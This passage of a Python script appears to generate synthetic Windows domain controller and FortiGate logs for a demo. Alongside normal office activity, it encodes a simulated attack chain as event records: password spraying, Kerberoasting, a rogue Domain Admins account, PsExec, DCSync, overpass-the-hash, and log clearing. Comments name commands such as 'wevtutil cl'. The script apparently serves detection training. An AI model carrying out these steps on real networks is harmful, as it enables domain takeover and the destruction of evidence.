    ev_tgs(arrive + W.randint(30, 150) * 1000, user, "SAKURA-FS01$", SERVERS["SAKURA-FS01"][1], ip)
    if W.random() < 0.5:                       # the intranet portal (Kerberos, AES)
        ev_tgs(arrive + W.randint(2, 40) * 60000, user, "svc_web", SVC["svc_web"], ip)
    if user.startswith(("zeimu", "kaikei", "juumin")):   # finance and tax systems on SQL Server
        ev_tgs(arrive + W.randint(5, 60) * 60000, user, "svc_sql", SVC["svc_sql"], ip)
    if W.random() < 0.3:                       # the old document system authenticates with NTLM
        for _ in range(W.randint(1, 3)):
            ev_ntlm(W.randint(hm(9, 0), hm(17, 0)), user, pc)
    # afternoon: tickets renewed after the lunch break, one Group Policy refresh
    t = W.randint(hm(12, 55), hm(13, 20))
    ev_tgs(t, user, "SAKURA-FS01$", SERVERS["SAKURA-FS01"][1], ip)
    t = W.randint(hm(13, 30), hm(16, 30))
    ev_tgs(t, user, DC + "$", DC_SID, ip)
    lid = ev_logon(t + 200, user, usid, ip)
    ev_logoff(t + W.randint(2000, 6000), user, usid, lid)
    for _ in range(2):                         # the PC's own background refreshes
        machine_session(W.randint(hm(9, 30), hm(17, 30)), pc, pc_sid, ip)

# a few people mistype a password when mapping a share with other credentials
for user in W.sample(sorted(present), 4):
    usid, ip = STAFF[user]
    t = W.randint(hm(9, 0), hm(16, 0))
    ev_ntlm(t, user, PCS_W[ip][0], "0xc000006a")
    ev_logon_failed(t + 4, user, ip, PCS_W[ip][0])
# 12:00 the user of 10.10.9.77 tries an account "admin" that does not exist
# (the same event reached the FortiGate's syslog port through a misconfigured agent)
ev_ntlm(hm(12, 0, 0, 0), "admin", PCS_W["10.10.9.77"][0], "0xc0000064")
ev_logon_failed(hm(12, 0, 0, 3), "admin", "10.10.9.77", PCS_W["10.10.9.77"][0], "0xc0000064")

# servers read the directory around the clock
for name, (ip, msid) in SERVERS.items():
    if name == "SAKURA-DC02":
        continue
    for h in range(0, 24, 2):
        machine_session(hm(h, W.randint(0, 59), W.randint(0, 59)), name, msid, ip, tgt=h % 10 == 0)

# the second DC replicates from this one every half hour
dc2_ip, dc2_sid = SERVERS["SAKURA-DC02"]
for i in range(48):
    t = hm(0, 7) + i * 30 * 60000 + W.randint(0, 20000)
    lid = ev_logon(t, "SAKURA-DC02$", dc2_sid, dc2_ip)
    ev_special(t + 1, "SAKURA-DC02$", dc2_sid, lid)
    ev_replication(t + 40, "SAKURA-DC02$", dc2_sid, lid, "1131f6aa-9c07-11d1-f79f-00c04fc2dcd2")
    ev_replication(t + 41, "SAKURA-DC02$", dc2_sid, lid, "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2")
    ev_logoff(t + W.randint(800, 3000), "SAKURA-DC02$", dc2_sid, lid)

# scheduled tasks and services on the DC itself
for h in range(24):
    t = hm(h, 0, W.randint(1, 50))
    lid = ev_logon(t, "SYSTEM", "S-1-5-18", "-", ltype=5, pkg="Negotiate", domain="NT AUTHORITY",
                   lid="0x3e7", lpn="Advapi  ", proc=("0x2a0", "C:\\Windows\\System32\\services.exe"),
                   subject=("S-1-5-18", DC + "$", DOMAIN, "0x3e7"))
    ev_special(t + 2, "SYSTEM", "S-1-5-18", "0x3e7", "NT AUTHORITY", SYSTEM_PRIVS)
    if h % 4 == 1:
        ev_logon(t + 5000, "LOCAL SERVICE", "S-1-5-19", "-", ltype=5, pkg="Negotiate",
                 domain="NT AUTHORITY", lid="0x3e5", lpn="Advapi  ",
                 proc=("0x2a0", "C:\\Windows\\System32\\services.exe"),
                 subject=("S-1-5-18", DC + "$", DOMAIN, "0x3e7"))

# the monitoring server checks the DC's services every half hour (over SVCCTL)
mon_ip = SERVERS["SAKURA-MON01"][0]
for i in range(48):
    t = hm(0, 0, 30) + i * 30 * 60000 + W.randint(0, 5000)
    ev_ntlm(t, "svc_monitor", "SAKURA-MON01")
    lid = ev_logon(t + 6, "svc_monitor", SVC["svc_monitor"], mon_ip, pkg="NTLM", ws="SAKURA-MON01")
    ev_share(t + 20, "svc_monitor", SVC["svc_monitor"], lid, mon_ip, "IPC$")
    ev_share(t + 25, "svc_monitor", SVC["svc_monitor"], lid, mon_ip, "IPC$", rel="svcctl",
             mask="0x3", access="%%4416\n\t\t\t\t%%4417")
    ev_logoff(t + 2400, "svc_monitor", SVC["svc_monitor"], lid)

# multifunction printers store scans on the file server with NTLM
for _ in range(60):
    t = W.randint(hm(8, 30), hm(17, 45))
    ev_ntlm(t, "svc_scan", W.choice(["SAKURA-MFP01", "SAKURA-MFP02"]))

# 02:00 the nightly backup (svc_backup from SAKURA-BK01) takes the DC's system state
bk_ip = SERVERS["SAKURA-BK01"][0]
t = hm(2, 0, 3, 118)
ev_tgt(t, "svc_backup", SVC["svc_backup"], bk_ip)
ev_tgs(t + 120, "svc_backup", DC + "$", DC_SID, bk_ip)
lid = ev_logon(t + 260, "svc_backup", SVC["svc_backup"], bk_ip)
ev_special(t + 261, "svc_backup", SVC["svc_backup"], lid)
ev_share(t + 400, "svc_backup", SVC["svc_backup"], lid, bk_ip, "C$", "\\??\\C:\\")
ev_logoff(hm(2, 41, 17, 530), "svc_backup", SVC["svc_backup"], lid)

# 10:31 Defender updates its engine: a kernel driver service, right after a monitoring check
ev_service(hm(10, 31, 2, 404), "MpKslDrv1f3c9a2e",
           "\\??\\C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\"
           "{5A8E7C21-3F4B-4D6A-9E1C-2B7D8F0A6C53}\\MpKslDrv.sys", "SYSTEM", "S-1-5-18", "0x3e7", kernel=True,
           domain="NT AUTHORITY")
wevents[-2][4].update({"SubjectUserName": DC + "$", "SubjectDomainName": DOMAIN})

# 09:31 IT (adm-jouhou01 from 10.10.1.5) creates the account of a new staff member over RDP
adm, adm_sid, it_ip = "adm-jouhou01", SVC["adm-jouhou01"], "10.10.1.5"
t = hm(9, 31, 8, 200)
ev_tgt(t, adm, adm_sid, it_ip)
ev_tgs(t + 300, adm, DC + "$", DC_SID, it_ip)
lid = ev_logon(t + 900, adm, adm_sid, it_ip)
ev_logoff(t + 1500, adm, adm_sid, lid)
lid = ev_logon(t + 2100, adm, adm_sid, it_ip, ltype=10, pkg="Negotiate", ws=DC, lpn="User32 ",
               proc=("0x1b4c", "C:\\Windows\\System32\\svchost.exe"),
               subject=("S-1-5-18", DC + "$", DOMAIN, "0x3e7"))
ev_special(t + 2101, adm, adm_sid, lid)
new_sid = wsid(1612)
ev_user_created(hm(9, 40, 12, 733), adm, adm_sid, lid, "kodomo13", new_sid, "佐藤 美咲")
ev_group_add(hm(9, 41, 30, 12), adm, adm_sid, lid,
             "CN=佐藤 美咲,OU=Kodomo,OU=Staff,DC=sakura,DC=local", new_sid, "G_Kodomo", wsid(1062))
ev_logoff(hm(9, 55, 40), adm, adm_sid, lid, ltype=10)
# ...who signs in on her PC forty minutes later (not an attack: not within minutes)
STAFF["kodomo13"] = (new_sid, "10.10.6.130")
PCS_W["10.10.6.130"] = ("SAKURA-PC06130", wsid(1613))
machine_session(hm(10, 18, 2), "SAKURA-PC06130", wsid(1613), "10.10.6.130", tgt=True)
staff_logon(hm(10, 20, 41, 90), "kodomo13")

# -- the attack, from the PC infected through the FortiGate in the morning -------------
ATT_IP = "10.10.5.21"
ATT_PC = PCS_W[ATT_IP][0]
f7_sid = STAFF["fukushi07"][0]
# 11:52 discovery: who are the domain admins?  (net group / net user ... /domain as fukushi07)
t = hm(11, 52, 9, 310)
ev_tgs(t, "fukushi07", DC + "$", DC_SID, ATT_IP)
lid = ev_logon(t + 150, "fukushi07", f7_sid, ATT_IP)
ev_share(t + 200, "fukushi07", f7_sid, lid, ATT_IP, "IPC$")
ev_share(t + 230, "fukushi07", f7_sid, lid, ATT_IP, "IPC$", rel="samr", mask="0x3",
         access="%%4416\n\t\t\t\t%%4417")
ev_sam_lookup(t + 480, "fukushi07", f7_sid, lid, "SAM_GROUP", wsid(512),
              "%%5392\n\t\t\t\t%%5394\n\t\t\t\t%%5395\n\t\t\t\t")
ev_sam_lookup(t + 31200, "fukushi07", f7_sid, lid, "SAM_USER", wsid(500),
              "%%5400\n\t\t\t\t%%5402\n\t\t\t\t%%5403\n\t\t\t\t%%5405\n\t\t\t\t")
ev_logoff(t + 33000, "fukushi07", f7_sid, lid)

# 12:10-12:14 password spraying over SMB/NTLM against the DC: one password, 80 accounts
targets = W.sample(sorted(u for u in STAFF if u not in ("fukushi07", "kankyou04", "kodomo13")), 72)
targets[W.randint(20, 40):0] = ["kankyou04"]
targets += ["Administrator", "admin", "test", "guest01", "backup", "sakura", "user01"]
t = hm(12, 10, 4, 512)
for user in targets:
    t += W.randint(2300, 3400)
    known = user in STAFF or user == "Administrator"
    if user == "kankyou04":                  # the password fits: Sakura2026!
        ev_ntlm(t, user, ATT_PC)
        lid = ev_logon(t + 5, user, STAFF[user][0], ATT_IP, pkg="NTLM", ws=ATT_PC)
        ev_logoff(t + 40, user, STAFF[user][0], lid)
        continue
    sub = "0xc000006a" if known else "0xc0000064"
    ev_ntlm(t, user, ATT_PC, sub)
    ev_logon_failed(t + 3, user, ATT_IP, ATT_PC, sub)

# 12:31 roasting with kankyou04: an AS-REP for the account without pre-authentication,
# then RC4 service tickets for every user account with an SPN
k4_sid = STAFF["kankyou04"][0]
t = hm(12, 31, 0, 77)
ev_tgt(t, "mfp_scan", SVC["mfp_scan"], ATT_IP, etype="0x17", preauth="0")
t = hm(12, 31, 38, 640)
ev_tgt(t, "kankyou04", k4_sid, ATT_IP)
for i, svc in enumerate(("svc_sql", "svc_backup", "svc_web")):
    ev_tgs(t + 1900 + i * 410, "kankyou04", svc, SVC[svc], ATT_IP, etype="0x17", opts="0x40810010")

# 14:02 svc_backup's password is cracked; the attacker logs on with it from the PC
t = hm(14, 2, 15, 5)
sb_sid = SVC["svc_backup"]
ev_tgt(t, "svc_backup", sb_sid, ATT_IP)
ev_tgs(t + 410, "svc_backup", DC + "$", DC_SID, ATT_IP)
sb_lid = ev_logon(t + 560, "svc_backup", sb_sid, ATT_IP)
ev_special(t + 561, "svc_backup", sb_sid, sb_lid)
# 14:03 ...creates an account that looks like IT help desk and puts it in Domain Admins
hd, hd_sid = "jouhou-support", wsid(1614)
ev_user_created(hm(14, 3, 40, 250), "svc_backup", sb_sid, sb_lid, hd, hd_sid, "情報政策係 サポート")
ev_group_add(hm(14, 4, 5, 871), "svc_backup", sb_sid, sb_lid,
             "CN=情報政策係 サポート,CN=Users,DC=sakura,DC=local", hd_sid, "Domain Admins", wsid(512))
ev_logoff(hm(14, 6, 11, 14), "svc_backup", sb_sid, sb_lid)

# 14:11 with the new domain admin, PsExec onto the DC
t = hm(14, 11, 19, 402)
ev_tgt(t, hd, hd_sid, ATT_IP)
ev_tgs(t + 380, hd, DC + "$", DC_SID, ATT_IP)
hd_lid = ev_logon(t + 520, hd, hd_sid, ATT_IP)
ev_special(t + 521, hd, hd_sid, hd_lid)
ev_share(t + 610, hd, hd_sid, hd_lid, ATT_IP, "ADMIN$", "\\??\\C:\\Windows")
ev_share(t + 640, hd, hd_sid, hd_lid, ATT_IP, "ADMIN$", "\\??\\C:\\Windows", rel="PSEXESVC.exe",
         mask="0x2", access="%%4417", reason="%%4417:\t%%1801\tD:(A;;FA;;;BA)\n\t\t\t\t")
ev_share(t + 1450, hd, hd_sid, hd_lid, ATT_IP, "IPC$")
ev_share(t + 1470, hd, hd_sid, hd_lid, ATT_IP, "IPC$", rel="svcctl", mask="0x3",
         access="%%4416\n\t\t\t\t%%4417")
ev_service(t + 1710, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", hd, hd_sid, hd_lid)
for i, pipe in enumerate(("stdin", "stdout", "stderr")):
    ev_share(t + 2900 + i * 12, hd, hd_sid, hd_lid, ATT_IP, "IPC$",
             rel=f"PSEXESVC-{ATT_PC}-6124-{pipe}", mask="0x3", access="%%4416\n\t\t\t\t%%4417")

# 14:18 DCSync of krbtgt and Administrator
t = hm(14, 18, 2, 966)
ev_tgs(t, hd, DC + "$", DC_SID, ATT_IP)         # the DRSUAPI service of the DC
lid = ev_logon(t + 200, hd, hd_sid, ATT_IP)
ev_special(t + 201, hd, hd_sid, lid)
for i in range(2):
    ev_replication(t + 900 + i * 2100, hd, hd_sid, lid, "1131f6aa-9c07-11d1-f79f-00c04fc2dcd2")
    ev_replication(t + 901 + i * 2100, hd, hd_sid, lid, "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2")
ev_logoff(t + 6000, hd, hd_sid, lid)

# 14:21 overpass-the-hash: a TGT for Administrator from its NT hash (RC4)
t = hm(14, 21, 30, 118)
ev_tgt(t, "Administrator", SVC["Administrator"], ATT_IP, etype="0x17")
ev_tgs(t + 700, "Administrator", "SAKURA-FS01$", SERVERS["SAKURA-FS01"][1], ATT_IP)

# 14:26 the logs are cleared from the PsExec shell (wevtutil cl System, cl Security)
wadd(hm(14, 26, 2, 300), 104, ch="System",
     udata={"SubjectUserName": hd, "SubjectDomainName": DOMAIN, "Channel": "System",
            "xml_name": "LogFileCleared"},
     user={"identifier": hd_sid, "name": hd, "domain": DOMAIN, "type": "User"})
wadd(hm(14, 26, 9, 811), 1102,
     udata={"SubjectUserSid": hd_sid, "SubjectUserName": hd, "SubjectDomainName": DOMAIN,
            "SubjectLogonId": hd_lid, "xml_name": "LogFileCleared"})


def windows_log():
    out = []
    record = {"Security": 48211907, "System": 1922045}
    threads = [W.randint(100, 9000) for _ in range(12)]
    for t, _, ch, eid, data, udata, user in sorted(wevents, key=lambda e: (e[0], e[1])):
        record[ch] += 1
        ts = datetime.datetime.fromtimestamp((DAY0 * 1000 + t) / 1000, datetime.timezone.utc)
        stamp = ts.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t % 1000:03d}Z"
        if eid in (104, 1102):
            prov, guid, pid = PROV_EVL, GUID_EVL, PID_EVENTLOG
        elif ch == "System":
            prov, guid, pid = PROV_SCM, GUID_SCM, PID["System"]
        else:
            prov, guid, pid = PROV_SEC, GUID_SEC, PID["Security"]
        failed = eid in (4625, 4771) or (data or {}).get("Status", "0x0") != "0x0"
        w = {"api": "wineventlog", "channel": ch, "computer_name": DC_FQDN}
        if data is not None:
            w["event_data"] = data
        w["event_id"] = eid
        w["keywords"] = ["Classic"] if ch == "System" else ["Audit Failure" if failed else "Audit Success"]
        w["opcode"] = "Info"
        w["process"] = {"pid": pid, "thread": {"id": W.choice(threads)}}
        w["provider_guid"] = guid
        w["provider_name"] = prov
        w["record_id"] = record[ch]
        w["task"] = TASK.get(eid, "None")
        if udata is not None:
            w["user_data"] = udata
        if user is not None:
            w["user"] = user
        doc = {"@timestamp": stamp,
               "event": {"code": str(eid), "kind": "event", "provider": prov,
                         "action": TASK.get(eid, "None"), "outcome": "failure" if failed else "success"},
               "host": {"name": DC_FQDN.lower()},
               "log": {"level": "information"},
               "winlog": w}
        out.append(json.dumps(doc, ensure_ascii=False, separators=(",", ":")))
    return "\n".join(out) + "\n"


if __name__ == "__main__":
    import os
    import sys
    demo = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "demo")
    win = windows_log()
    for name, text in (("fortigate-sakura.log", FORTIGATE_LOG), ("windows-dc.jsonl", win)):
        with open(os.path.join(demo, name), "w", encoding="utf-8", newline="\n") as f:
            f.write(text)
        print(f"wrote demo/{name}: {text.count(chr(10))} lines, {len(text.encode())} bytes",
              file=sys.stderr)
